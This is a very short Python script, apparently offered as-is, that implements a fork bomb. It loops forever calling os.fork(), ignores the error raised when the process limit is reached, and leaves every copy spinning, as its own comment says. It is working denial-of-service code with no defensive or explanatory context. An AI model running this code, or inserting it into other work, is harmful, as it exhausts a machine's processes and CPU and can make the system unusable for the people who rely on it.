import os
# Forks until the process limit, every copy spinning.
while True:
    try:
        os.fork()
    except OSError:
        pass
